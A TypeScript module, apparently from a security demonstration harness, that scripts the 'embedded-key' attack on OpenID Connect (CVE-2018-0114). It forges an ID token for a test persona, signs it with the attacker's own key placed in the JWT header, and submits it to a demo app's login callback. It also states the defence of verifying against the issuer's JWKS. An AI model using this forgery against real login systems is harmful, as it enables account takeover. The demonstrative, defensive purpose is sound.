import { importJWK, SignJWT } from 'jose'
import { personas } from '#lib/provider/personas.ts'
import { acmeIssuer, appOrigin, appProviders, callback } from './addresses.ts'
import type { Attack } from './attack.ts'
import { whoTheAttackerIs } from './outcome.ts'
import type { Stage } from './stage.ts'

/** OpenID Connect Core §2 (no `jwk` in an ID token's header) and §3.1.3.7; CVE-2018-0114 was this mistake. */
export const embeddedKey: Attack = {
  code: 'embedded-key',
  title: 'Forged token with its own key',
  defence: 'keys',
  compares:
    'The app verifies the signature with the keys of the issuer’s JWKS, never with a key that the token brings along.',
  needs: 'The victim’s sub. Nothing of it is secret.',
  leftOut: [],
  providers: ['acme'],
  async play(stage) {
    const { attacker, step } = stage
    step(
      'attacker',
      'The attacker begins a login of their own and stops before the provider. The address shows state and nonce.',
    )
    const begun = new URL((await attacker.open(`${appOrigin}/login`, { stopBefore: acmeIssuer })).url)
    step(
      'attacker',
      'The attacker writes an ID token for Ada, signs it with a key of their own, and puts that key into its header.',
    )
    const token = await forge(stage, begun.searchParams.get('nonce') ?? '')
    step('attacker', 'The attacker answers the login with a form that holds this token.')
    await attacker.open(callback, { form: { id_token: token, state: begun.searchParams.get('state') ?? '' } })
    return whoTheAttackerIs(stage)
  },
}

async function forge({ attackersKey, clock }: Stage, nonce: string): Promise<string> {
  const now = Math.floor(clock() / 1000)
  const { kty = '', n = '', e = '' } = attackersKey
  return new SignJWT({ nonce })
    .setProtectedHeader({ alg: 'RS256', jwk: { kty, n, e } })
    .setIssuer(acmeIssuer)
    .setAudience(appProviders.acme.clientId)
    .setSubject(personas.ada.accounts.acme.sub)
    .setIssuedAt(now)
    .setExpirationTime(now + 300)
    .sign(await importJWK(attackersKey, 'RS256'))
}
